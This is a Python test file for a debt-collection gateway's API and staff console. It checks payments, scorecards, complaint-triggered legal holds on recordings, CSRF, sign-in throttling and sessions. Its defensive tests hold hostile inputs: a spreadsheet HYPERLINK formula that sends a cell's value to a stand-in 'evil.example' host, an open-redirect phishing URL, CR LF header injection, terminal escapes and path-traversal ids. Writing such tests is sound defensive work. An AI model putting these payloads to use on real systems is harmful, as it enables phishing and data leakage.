"""The endpoints the console is built on, over HTTP on loopback: keys, listings, decision history,
payments and imports (with a per-row report), the scorecard's money and rates against values
computed by hand, complaints that hold the case's recordings until resolved; and the console's
own HTTP behaviour: sign-in throttle and roles, CSRF, cookies, the catalogues."""

from __future__ import annotations

import asyncio
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from aiohttp.test_utils import TestClient

from gateway.web.app import create_app
from gateway.web.console.i18n import LANGS, MISSING, catalogue
from gateway.web.routes.review import CATEGORIES, SEVERITIES
from storage.console_sessions import resume_session
from storage.db import Database
from tests.gateway.console.world import Keys, csrf_of, key_id, populate, sign_in, upload_recording
from tests.gateway.helpers import DEBTOR_NUMBER, hdr
from tests.gateway.test_api import assert_error_shape
from tests.gateway.vault_world import vault_settings

AUDIO = b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(range(256)) * 40
CONSOLE = Path(__file__).resolve().parents[3] / "gateway" / "web" / "console"


@pytest.fixture
async def world(aiohttp_client: Any, data_dir: Path, make_key: Any) -> tuple[TestClient, Keys]:  # type: ignore[type-arg]
    client = await aiohttp_client(create_app(vault_settings(data_dir, **{"auth.max_failures": 3})))
    return client, await populate(client, make_key)


async def attempt(client: TestClient, keys: Keys, case_id: str = "c1") -> dict[str, Any]:  # type: ignore[type-arg]
    r = await client.post(
        "/v1/authorize",
        json={"case_id": case_id, "to": DEBTOR_NUMBER, "channel": "call"},
        headers=hdr(keys.dialer),
    )
    return dict(await r.json())


async def test_scorecard_money_and_rates_match_hand_computed_values(world: tuple[TestClient, Keys]) -> None:  # type: ignore[type-arg]
    client, keys = world
    today = datetime.now(UTC).date().isoformat()
    month = today[:7]
    for case_id, balance in (("c1", "1000.00"), ("c2", "500")):
        body = await (await client.get(f"/v1/cases/{case_id}", headers=hdr(keys.admin))).json()
        body["balance"] = {"amount": balance, "currency": "usd"}
        r = await client.put(f"/v1/cases/{case_id}", json=body, headers=hdr(keys.admin))
        assert r.status == 200
        assert (await r.json())["balance"] == {
            "amount": f"{float(balance):.2f}",
            "currency": "USD",
        }
    for case_id, amount, ref in (("c1", "150.00", "r1"), ("c2", 75.5, None)):
        r = await client.post(
            f"/v1/cases/{case_id}/payments",
            json={
                "amount": amount,
                "currency": "USD",
                "paid_on": today,
                **({"reference": ref} if ref else {}),
            },
            headers=hdr(keys.admin),
        )
        assert r.status == 201, await r.text()
    # The same reference again is the same payment; with another amount, a conflict.
    r = await client.post(
        "/v1/cases/c1/payments",
        json={"amount": "150", "currency": "USD", "paid_on": today, "reference": "r1"},
        headers=hdr(keys.admin),
    )
    assert r.status == 200
    r = await client.post(
        "/v1/cases/c1/payments",
        json={"amount": "151", "currency": "USD", "paid_on": today, "reference": "r1"},
        headers=hdr(keys.admin),
    )
    assert r.status == 409
    ids = [(await attempt(client, keys))["attempt_id"] for _ in range(3)]
    denied = await attempt(client, keys)
    assert denied["allowed"] is False
    assert denied["reasons"][0]["code"] == "cap_exceeded"
    for att, outcome in zip(
        ids,
        (
            {"result": "connected", "spoke_with": "debtor"},
            {"result": "no_answer"},
            {"result": "connected", "spoke_with": "third_party"},
        ),
        strict=True,
    ):
        r = await client.post(f"/v1/attempts/{att}/outcome", json=outcome, headers=hdr(keys.dialer))
        assert r.status == 200, await r.text()
    received = (datetime.now(UTC) - timedelta(minutes=1)).isoformat()
    r = await client.post(
        "/v1/complaints",
        json={"case_id": "c1", "received_at": received, "channel": "call", "summary": "rude agent"},
        headers=hdr(keys.inspector),
    )
    assert r.status == 201

    r = await client.get(
        "/v1/reports/scorecard", params={"agency_id": "a1", "month": month}, headers=hdr(keys.admin)
    )
    (card,) = (await r.json())["scorecards"]
    # By hand: balances 1,000 + 500 = 1,500 USD; payments 150 + 75.50 = 225.50; 225.50 / 1,500 =
    # 0.150333 → 0.1503; commission at the contract's 20 % = 45.10; per unit recovered 0.2.
    assert card["money"] == {
        "USD": {
            "assigned": "1500.00",
            "cases_with_balance": 2,
            "recovered": "225.50",
            "payments": 2,
            "recovery_rate": 0.1503,
            "commission": "45.10",
            "cost_per_unit_recovered": 0.2,
            "payments_without_contract": 0,
        }
    }
    # 4 requests, 3 allowed, 1 denied (cap); 3 attempts, 2 connected, 1 with the debtor: 1/3;
    # 1 complaint over 2 cases = 500 per 1,000; no flags: 0 confirmed per 100 conversations.
    assert card["contact_requests"] == {
        "total": 4,
        "allowed": 3,
        "denied": 1,
        "denials_by_reason": {"cap_exceeded": 1},
    }
    assert card["attempts"] == {"made": 3, "released": 0, "connected_calls": 2, "right_party_contacts": 1}
    assert card["cases"] == 2
    assert card["complaints"] == 1
    assert card["rates"] == {
        "right_party_contact_rate": 0.3333,
        "flags_per_100_conversations": {},
        "confirmed_per_100_conversations": 0.0,
        "complaints_per_1000_cases": 500.0,
    }
    # a2 has no activity: it ranks after a1? No: a1 has 0 confirmed but 500 complaints per 1,000
    # cases; a2 has no conversations (no rate), so a1 ranks first.
    await sign_in(client, keys.admin)
    r = await client.get(f"/console/scorecard?month={month}&agency_id=a1")
    html = await r.text()
    assert r.status == 200
    assert html.index('data-agency="a1"') < html.index('data-agency="a2"')
    assert "<td>225.50</td>" in html
    assert html.count("<svg") == 7


async def test_console_cli_report_prints_the_same_scorecard(
    world: tuple[TestClient, Keys],
    data_dir: Path,  # type: ignore[type-arg]
    capsys: pytest.CaptureFixture[str],
) -> None:
    from gateway.cli.main import main as cli_main

    client, keys = world
    await attempt(client, keys)
    month = datetime.now(UTC).strftime("%Y-%m")

    def cli(*args: str) -> int:
        return cli_main(["report", "scorecard", "--data-dir", str(data_dir), *args])

    assert await asyncio.to_thread(cli, "--agency", "a1", "--month", month, "--csv") == 0
    rows = dict(line.split(",", 1) for line in capsys.readouterr().out.splitlines()[1:])
    assert rows["attempts.made"] == "1"
    assert rows["contact_requests.allowed"] == "1"
    assert rows["cases"] == "2"
    assert await asyncio.to_thread(cli, "--agency", "zz") == 1
    assert await asyncio.to_thread(cli, "--agency", "a1", "--month", "13") == 2


async def test_keys_listings_decisions_and_imports(world: tuple[TestClient, Keys]) -> None:  # type: ignore[type-arg]
    client, keys = world
    r = await client.post(
        "/v1/keys", json={"role": "inspector", "agency_id": "a1", "name": "qa-a1"}, headers=hdr(keys.admin)
    )
    created = await r.json()
    assert r.status == 201
    assert created["key"].startswith(f"cw_{created['key_id']}_")
    listed = (await (await client.get("/v1/keys", headers=hdr(keys.admin))).json())["keys"]
    assert created["key_id"] in [k["key_id"] for k in listed]
    assert all("key" not in k for k in listed)
    for body, code in (
        ({"role": "boss"}, 400),
        ({"role": "dialer"}, 400),
        ({"role": "admin", "agency_id": "a1"}, 400),
    ):
        r = await client.post("/v1/keys", json=body, headers=hdr(keys.admin))
        assert r.status == code
        assert_error_shape(await r.json(), "invalid_field")
    assert (
        await client.post("/v1/keys", json={"role": "inspector"}, headers=hdr(keys.inspector))
    ).status == 403
    r = await client.delete(f"/v1/keys/{created['key_id']}", headers=hdr(keys.admin))
    assert r.status == 200
    assert (await r.json())["revoked_at"]
    assert (await client.get("/v1/agencies", headers=hdr(created["key"]))).status == 401
    assert (await client.delete("/v1/keys/nope00000000", headers=hdr(keys.admin))).status == 404
    assert (await client.delete(f"/v1/keys/{key_id(keys.admin)}", headers=hdr(keys.admin))).status == 409

    agencies = (await (await client.get("/v1/agencies", headers=hdr(keys.security))).json())["agencies"]
    assert [(a["agency_id"], a["cases"], a["commission_rate"]) for a in agencies] == [
        ("a1", 2, "0.2"),
        ("a2", 1, "0.2"),
    ]
    assert (await client.get("/v1/agencies", headers=hdr(keys.dialer))).status == 403
    found = (await (await client.get("/v1/cases", params={"q": "0123"}, headers=hdr(keys.admin))).json())[
        "cases"
    ]
    assert [c["case_id"] for c in found] == ["c1", "c2", "c9"]
    assert "0123" in found[0]["numbers"][0]
    assert DEBTOR_NUMBER not in str(found)
    only = (await (await client.get("/v1/cases", params={"q": "c9"}, headers=hdr(keys.admin))).json())[
        "cases"
    ]
    assert [c["case_id"] for c in only] == ["c9"]
    for _ in range(4):
        await attempt(client, keys)
    decisions = (await (await client.get("/v1/cases/c1/decisions", headers=hdr(keys.inspector))).json())[
        "decisions"
    ]
    assert [d["allowed"] for d in decisions] == [False, True, True, True]
    assert decisions[0]["reasons"][0]["code"] == "cap_exceeded"
    assert [p.split("#")[0] for p in decisions[0]["packs"]] == ["test-3-per-day@1"]
    assert decisions[0]["packs"][0].startswith("test-3-per-day@1#sha256:")
    assert (await client.get("/v1/cases/nope/decisions", headers=hdr(keys.admin))).status == 404
    assert (
        await client.get("/v1/cases/c1/decisions", params={"before": "x"}, headers=hdr(keys.admin))
    ).status == 400

    csv_text = (
        "case_id,agency_id,region,packs,overdue_days,debtor_name,phones,balance,currency\n"
        "n1,a1,US,test-3-per-day,40,Ann,(212) 555-0101,100.00,USD\n"
        "n2,a1,US,no-such-pack,40,Bob,(212) 555-0102,,\n"
        "n3,a1,US,test-3-per-day,x,Cy,(212) 555-0103,,\n"
        "n4,zz,US,test-3-per-day,40,Di,(212) 555-0104,,\n"
        "n5,a1,US,test-3-per-day,40,Ed,12,,\n"
    )
    r = await client.post("/v1/cases/import?format=csv", data=csv_text.encode(), headers=hdr(keys.admin))
    report = await r.json()
    assert r.status == 200
    assert (report["created"], report["rejected"]) == (1, 4)
    assert [(e["line"], e["error"]) for e in report["errors"]] == [
        (3, "unknown_pack"),
        (4, "invalid_field"),
        (5, "not_found"),
        (6, "invalid_phone"),
    ]
    assert (await client.get("/v1/cases/n2", headers=hdr(keys.admin))).status == 404
    jsonl = (
        '{"case_id": "n1", "amount": "10", "currency": "USD", "paid_on": "2020-01-02"}\n'
        'not json\n{"case_id": "n1"}\n'
    )
    r = await client.post("/v1/payments/import", data=jsonl.encode(), headers=hdr(keys.admin))
    report = await r.json()
    assert (report["created"], [(e["line"], e["error"]) for e in report["errors"]]) == (
        1,
        [(2, "invalid_json"), (3, "invalid_field")],
    )
    assert (
        await client.post("/v1/payments/import?format=xml", data=b"x", headers=hdr(keys.admin))
    ).status == 400
    assert (await client.post("/v1/payments/import", data=b"", headers=hdr(keys.admin))).status == 400
    for body in (
        {"amount": "-1", "currency": "USD", "paid_on": "2020-01-01"},
        {"amount": "1.001", "currency": "USD", "paid_on": "2020-01-01"},
        {"amount": "1", "currency": "dollars", "paid_on": "2020-01-01"},
        {"amount": "1", "currency": "USD", "paid_on": "2999-01-01"},
    ):
        r = await client.post("/v1/cases/c1/payments", json=body, headers=hdr(keys.admin))
        assert r.status == 400, body
    r = await client.put(
        "/v1/agencies/a3",
        json={"name": "A3", "status": "active", "commission_rate": "0.1"},
        headers=hdr(keys.admin),
    )
    assert r.status == 400
    assert (await r.json())["details"]["field"] == "contract_start"
    assert (await client.get("/v1/agencies/a3", headers=hdr(keys.admin))).status == 404


async def test_an_open_complaint_holds_the_cases_recordings_until_resolved(
    world: tuple[TestClient, Keys],
) -> None:  # type: ignore[type-arg]
    client, keys = world

    async def upload() -> str:
        att = (await attempt(client, keys))["attempt_id"]
        r = await client.post(
            f"/v1/recordings?attempt_id={att}",
            data=AUDIO + att.encode(),
            headers={**hdr(keys.dialer), "Content-Type": "audio/wav"},
        )
        return str((await r.json())["recording_id"])

    async def held(rid: str) -> bool:
        return bool(
            (await (await client.get(f"/v1/recordings/{rid}", headers=hdr(keys.security))).json())[
                "legal_hold"
            ]
        )

    before = await upload()
    r = await client.post(
        "/v1/recordings/" + before + "/legal-hold", json={"reason": "manual"}, headers=hdr(keys.security)
    )
    manual = await upload()
    r = await client.post(
        "/v1/complaints",
        json={
            "case_id": "c1",
            "received_at": "2020-01-01T00:00:00Z",
            "channel": "regulator",
            "summary": "threats",
        },
        headers=hdr(keys.admin),
    )
    complaint = await r.json()
    assert r.status == 201
    assert complaint["status"] == "open"
    assert complaint["holding_recordings"] == 2
    after = await upload()
    assert [await held(x) for x in (before, manual, after)] == [True, True, True]
    r = await client.delete(
        f"/v1/recordings/{manual}/legal-hold", json={"reason": "lift it"}, headers=hdr(keys.security)
    )
    assert r.status == 409
    assert (await r.json())["details"]["complaint_id"] == complaint["complaint_id"]
    url = f"/v1/complaints/{complaint['complaint_id']}/resolve"
    assert (await client.post(url, json={"resolution": " "}, headers=hdr(keys.admin))).status == 400
    assert (await client.post(url, json={"resolution": "ok"}, headers=hdr(keys.security))).status == 403
    r = await client.post(url, json={"resolution": "agency retrained"}, headers=hdr(keys.inspector))
    assert r.status == 200
    assert (await r.json())["released_recordings"] == 2
    # The manual hold placed before the complaint stays; the complaint's own holds are lifted.
    assert [await held(x) for x in (before, manual, after)] == [True, False, False]
    assert (await client.post(url, json={"resolution": "again"}, headers=hdr(keys.admin))).status == 409
    r = await client.get(
        "/v1/audit/access-log", params={"object": after, "limit": "100"}, headers=hdr(keys.security)
    )
    holds = [
        (e["action"], e["reason"])
        for e in (await r.json())["entries"]
        if e["action"].startswith("recording.")
    ]
    assert ("recording.hold", f"complaint {complaint['complaint_id']} is open") in holds
    assert ("recording.release", f"complaint {complaint['complaint_id']} resolved") in holds
    listed = (await (await client.get("/v1/complaints?status=resolved", headers=hdr(keys.admin))).json())[
        "complaints"
    ]
    assert [(c["complaint_id"], c["resolution"]) for c in listed] == [
        (complaint["complaint_id"], "agency retrained")
    ]


async def test_console_sign_in_roles_csrf_cookies_and_throttle(
    world: tuple[TestClient, Keys], data_dir: Path
) -> None:  # type: ignore[type-arg]
    client, keys = world
    r = await client.get("/", allow_redirects=False)
    assert (r.status, r.headers["Location"]) == (302, "/console/")
    r = await client.get("/console/queue", allow_redirects=False)
    assert r.status == 303
    assert r.headers["Location"].startswith("/console/sign-in?next=")
    # The API's Bearer keys open no console page; the console's cookie opens no API endpoint.
    assert (
        await client.get("/console/queue", headers=hdr(keys.inspector), allow_redirects=False)
    ).status == 303
    csrf = await sign_in(client, keys.inspector)
    assert (await client.get("/v1/flags")).status == 401
    # A form without the session's token is refused (and changes nothing).
    for token in ("", "forged"):
        r = await client.post(
            "/console/complaints",
            data={
                "csrf": token,
                "case_id": "c1",
                "channel": "call",
                "summary": "x",
                "received_at": "2020-01-01T00:00",
            },
        )
        assert r.status == 403
        assert 'data-code="csrf_rejected"' in await r.text()
    r = await client.post(
        "/console/complaints",
        data={
            "csrf": csrf,
            "case_id": "c1",
            "channel": "call",
            "summary": "x",
            "received_at": "2020-01-01T00:00",
        },
    )
    assert r.status == 200
    assert (await (await client.get("/v1/complaints", headers=hdr(keys.admin))).json())["complaints"]
    for path in (
        "/console/security/access-log",
        "/console/security/retention",
        "/console/admin/keys",
        "/console/admin/cases",
        "/console/admin/import",
    ):
        assert (await client.get(path)).status == 403, path
    # The sign-in form itself carries a token (double-submit cookie) before there is a session.
    client.session.cookie_jar.clear()
    r = await client.post("/console/sign-in", data={"key": keys.admin, "csrf": "x"})
    assert r.status == 403
    # Dialers cannot sign in; wrong keys are throttled like the API's (auth.max_failures = 3 here).
    token = await csrf_of(client, "/console/sign-in")
    r = await client.post("/console/sign-in", data={"key": keys.dialer, "csrf": token})
    assert r.status == 403
    assert 'data-code="role"' in await r.text()
    # (One failure already: the cookie-only call to /v1/flags above.)
    for _ in range(2):
        r = await client.post("/console/sign-in", data={"key": "cw_nope", "csrf": token})
        assert r.status == 401
        assert 'data-code="bad_key"' in await r.text()
    r = await client.post("/console/sign-in", data={"key": "cw_nope", "csrf": token})
    assert r.status == 429
    assert 'data-code="too_many"' in await r.text()
    # A valid key is never held back by other people's failures from the same address.
    r = await client.post("/console/sign-in", data={"key": keys.admin, "csrf": token}, allow_redirects=False)
    assert r.status in (302, 303), r.status


async def test_cookie_is_secure_behind_a_trusted_tls_proxy_and_sessions_expire(
    world: tuple[TestClient, Keys], data_dir: Path
) -> None:  # type: ignore[type-arg]
    client, keys = world
    for proto, secure in (("http", False), ("https", True)):
        client.session.cookie_jar.clear()
        token = await csrf_of(client, "/console/sign-in")
        r = await client.post(
            "/console/sign-in",
            data={"key": keys.security, "csrf": token},
            headers={"X-Forwarded-Proto": proto},
            allow_redirects=False,
        )
        cookie = r.headers["Set-Cookie"]
        assert "cw_session=" in cookie
        assert "HttpOnly" in cookie
        assert "SameSite=Strict" in cookie
        assert ("Secure" in cookie) is secure
    session_token = re.search(r"cw_session=([^;]+)", cookie)
    assert session_token is not None
    async with Database(vault_settings(data_dir).db_path) as db:
        now = datetime.now(UTC)
        alive, why = await resume_session(db, session_token.group(1), 1800, now + timedelta(seconds=1700))
        assert alive is not None
        assert why is None
        gone, why = await resume_session(
            db, session_token.group(1), 1800, now + timedelta(seconds=1700 + 1801)
        )
        assert gone is None
        assert why == "expired"
        assert (await resume_session(db, session_token.group(1), 1800, now))[1] == "ended"


def test_every_label_is_in_both_languages() -> None:
    en, zh = catalogue("en"), catalogue("zh")
    assert set(en) == set(zh), set(en) ^ set(zh)
    assert all(v.strip() for v in (*en.values(), *zh.values()))
    used = set()
    for path in [*CONSOLE.glob("templates/*.html"), *CONSOLE.glob("views/*.py")]:
        used |= set(re.findall(r"(?<![\w.])t\([\"']([a-z0-9_.]+)[\"']\)", path.read_text("utf-8")))
        used |= set(re.findall(r"(?<![\w.])t\([\"']([a-z0-9_.]+)[\"'],", path.read_text("utf-8")))
    dynamic = {f"category.{c}" for c in CATEGORIES} | {f"severity.{s}" for s in SEVERITIES}
    for lang in LANGS:
        missing = sorted(k for k in used | dynamic if k not in catalogue(lang))
        assert not missing, (lang, missing)
    assert MISSING not in "".join(en.values()) + "".join(zh.values())


async def test_an_agency_bound_security_officer_sees_only_its_agencys_trail(
    world: tuple[TestClient, Keys], make_key: Any
) -> None:  # type: ignore[type-arg]
    """Found by an adversarial probe: the pages read every agency's access log and retention."""
    client, keys = world
    r = await client.post(
        "/v1/authorize",
        json={"case_id": "c9", "to": DEBTOR_NUMBER, "channel": "call"},
        headers=hdr(keys.dialer2),
    )
    r = await client.post(
        f"/v1/recordings?attempt_id={(await r.json())['attempt_id']}",
        data=AUDIO,
        headers={**hdr(keys.dialer2), "Content-Type": "audio/wav"},
    )
    assert r.status == 201
    await upload_recording(client, keys, AUDIO)
    a2_dialer = key_id(keys.dialer2)

    await sign_in(client, keys.security)
    for path in ("/console/security/access-log", "/console/security/access-log.csv"):
        assert a2_dialer in await (await client.get(path)).text(), path
    assert "a2" in re.findall(r"\ba\d\b", await (await client.get("/console/security/retention")).text())

    token = await sign_in(client, await make_key("security", "a1", "sec-a1"))
    for path in ("/console/security/access-log", "/console/security/access-log.csv"):
        r = await client.get(path)
        assert r.status == 200, path
        assert a2_dialer not in await r.text(), path
        assert key_id(keys.dialer) in await r.text(), path
    r = await client.get("/console/security/retention")
    assert r.status == 200
    assert "a2" not in re.findall(r"\ba\d\b", await r.text())
    assert (await client.get("/console/security/retention", params={"agency_id": "a2"})).status == 404
    r = await client.post("/console/security/verify", data={"csrf": token, "next": "/console/"})
    assert r.status == 403


async def test_an_import_form_that_cannot_be_read_is_400_not_500(world: tuple[TestClient, Keys]) -> None:  # type: ignore[type-arg]
    client, keys = world
    token = await sign_in(client, keys.admin)
    for payload in (
        b'--b\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n\xed\xa0\x80\xff\r\n--b--\r\n',
        b"no boundary anywhere",
    ):
        r = await client.post(
            "/console/admin/import",
            data=payload,
            headers={"Content-Type": "multipart/form-data; boundary=b", "X-CSRF-Token": token},
        )
        assert r.status == 400, (payload, r.status, await r.text())


async def test_what_a_second_adversarial_probe_found_in_the_pages(world: tuple[TestClient, Keys]) -> None:  # type: ignore[type-arg]
    client, keys = world
    # A case whose denials carry no `lifts_at` (an unknown number, another agency asking): its
    # page answered 500, exactly for the blocked contacts an admin opens it to understand.
    for who, to in ((keys.dialer, "+12125550199"), (keys.dialer2, DEBTOR_NUMBER)):
        r = await client.post(
            "/v1/authorize", json={"case_id": "c1", "to": to, "channel": "call"}, headers=hdr(who)
        )
        assert (await r.json())["allowed"] is False
    token = await sign_in(client, keys.admin)
    r = await client.get("/console/admin/cases/c1")
    assert r.status == 200
    page = await r.text()
    assert "unknown_number" in page
    assert "case_not_assigned" in page
    # A sign-in link whose `next` carries a CR LF lands on the console, not on a dropped answer
    # (a NUL is refused with the form: no text field takes one).
    client.session.cookie_jar.clear()
    form_token = await csrf_of(client, "/console/sign-in")
    r = await client.post(
        "/console/sign-in", data={"key": keys.security, "csrf": form_token, "next": "/console\x00"}
    )
    assert r.status == 400
    for bad in ("/console/\r\nX-Evil: 1", "/console/\x1b[2J"):
        client.session.cookie_jar.clear()
        form_token = await csrf_of(client, "/console/sign-in")
        r = await client.post(
            "/console/sign-in",
            data={"key": keys.security, "csrf": form_token, "next": bad},
            allow_redirects=False,
        )
        assert r.status in (302, 303), r.status
        assert r.headers["Location"].startswith("/console")
        assert "X-Evil" not in r.headers["Location"]
    token = await sign_in(client, keys.security)
    r = await client.post(
        "/console/security/verify",
        data={"csrf": token, "next": "https://evil.example/phish"},
        allow_redirects=False,
    )
    assert r.status == 303
    assert r.headers["Location"].startswith("/console/")
    for before in ("99999999999999999999", "²"):
        r = await client.get("/console/security/access-log", params={"before": before})
        assert r.status == 400, before
    # A reason must be what the API takes (printable, 3..500 characters), and a spreadsheet
    # formula given as one is exported as text.
    rid = await upload_recording(client, keys, AUDIO)
    for reason in ("x", "\x1b[2J\x07"):
        r = await client.get(f"/console/recordings/{rid}/transcript", params={"reason": reason})
        assert r.status == 400, reason
    formula = '=HYPERLINK("http://evil.example/?x="&B2,"Open")'
    r = await client.post(f"/console/recordings/{rid}", data={"csrf": token, "reason": formula})
    assert r.status == 200
    exported = await (await client.get("/console/security/access-log.csv")).text()
    assert "'" + formula.replace('"', '""') in exported
    assert '\r\n"=HYPERLINK' not in exported
    assert ",=HYPERLINK" not in exported


async def test_the_agency_form_refuses_an_id_the_api_refuses(world: tuple[TestClient, Keys]) -> None:  # type: ignore[type-arg]
    """Found by a probe: the form stored `../x` and `<b>x</b>` as agency ids (and a dialer key could
    then be bound to one) while the API refuses them; no request could read them again."""
    client, keys = world
    token = await sign_in(client, keys.admin)
    for bad_id, name in (
        ("../x", "N"),
        ("a b", "N"),
        ("<b>x</b>", "N"),
        ("x" * 200, "N"),
        ("ok-id", "\x07bell"),
    ):
        r = await client.post(
            "/console/admin/agencies",
            data={"csrf": token, "agency_id": bad_id, "name": name, "status": "active"},
            allow_redirects=False,
        )
        assert r.status == 400, (bad_id, r.status)
    agencies = await (await client.get("/v1/agencies", headers=hdr(keys.admin))).json()
    assert sorted(a["agency_id"] for a in agencies["agencies"]) == ["a1", "a2"]


async def test_a_tab_polling_the_queue_counts_does_not_keep_its_session_alive(
    aiohttp_client: Any, data_dir: Path, make_key: Any
) -> None:
    """Found by a probe: the queue page refreshes its counts every 15 s, and each refresh counted as
    activity, so an unattended inspector's workstation never timed out."""
    client = await aiohttp_client(create_app(vault_settings(data_dir, **{"console.idle_timeout_s": 2})))
    keys = await populate(client, make_key)
    await sign_in(client, keys.inspector)
    for _ in range(4):  # 1.6 s of polling within the 2 s, nobody at the screen ...
        r = await client.get("/console/queue/counts", headers={"Accept": "application/json"})
        assert r.status == 200
        await asyncio.sleep(0.4)
    await asyncio.sleep(0.8)  # ... and 2.4 s since anyone was
    r = await client.get("/console/queue", allow_redirects=False)
    assert r.status in (302, 303), r.status
    assert "why=expired" in r.headers["Location"]
    # Someone at the screen (a page loaded) does keep it alive.
    await sign_in(client, keys.inspector)
    for _ in range(7):
        assert (await client.get("/console/queue", allow_redirects=False)).status == 200
        await asyncio.sleep(0.4)


async def test_dates_at_the_edge_of_the_calendar_are_400_not_500(world: tuple[TestClient, Keys]) -> None:  # type: ignore[type-arg]
    """Found by a probe: the queue's `to=9999-12-31` overflowed the day after it (500)."""
    client, keys = world
    await sign_in(client, keys.inspector)
    for path in ("/console/queue", "/console/queue/counts"):
        for query in ({"to": "9999-12-31"}, {"from": "0001-01-01"}, {"to": "2026-02-30"}):
            r = await client.get(path, params=query)
            assert r.status == 400, (path, query, r.status)
        assert (await client.get(path, params={"to": "2026-12-31"})).status == 200
    await sign_in(client, keys.security)
    for query in (
        {"from": "9999-12-31T23:59:59-01:00"},
        {"to": "9999-12-31"},
        {"from": "2026-12-01T10:00:00"},
    ):
        r = await client.get("/console/security/access-log", params=query)
        assert r.status == 400, (query, r.status)
    r = await client.get("/console/security/access-log", params={"from": "2026-12-01T10:00:00Z"})
    assert r.status == 200


async def test_a_pages_notice_shows_only_what_its_own_redirects_set(world: tuple[TestClient, Keys]) -> None:  # type: ignore[type-arg]
    """Found by a probe: `?err=` on the retention page showed any text as an error banner and
    `?msg=` put any text into a label's key (and the server log), in pages the staff trust."""
    client, keys = world
    bait = "Your session expired. Sign in again at https://evil.example"
    token = await sign_in(client, keys.security)
    for path, param in (("/console/security/retention", "err"), ("/console/security/retention", "msg")):
        r = await client.get(path, params={param: bait})
        assert r.status == 200, path
        page = await r.text()
        assert "Sign in again at" not in page, (path, param)  # (the language links keep the query)
        assert "⟦" not in page, (path, param)
    r = await client.get("/console/security/retention", params={"msg": "hold_on"})
    assert "Legal hold placed." in await r.text()
    # A hold that cannot be placed says why on the error page, not through a URL.
    r = await client.post(
        "/console/security/hold",
        data={"csrf": token, "recording_id": "rec_missing", "action": "on", "reason": "dispute 12"},
        allow_redirects=False,
    )
    assert r.status == 404, r.status
    assert "Location" not in r.headers
    admin_token = await sign_in(client, keys.admin)
    assert admin_token
    for path in ("/console/admin/cases/c1", "/console/complaints"):
        r = await client.get(path, params={"msg": bait})
        assert r.status == 200, path
        page = await r.text()
        assert "Sign in again at" not in page, path
        assert "⟦" not in page, path
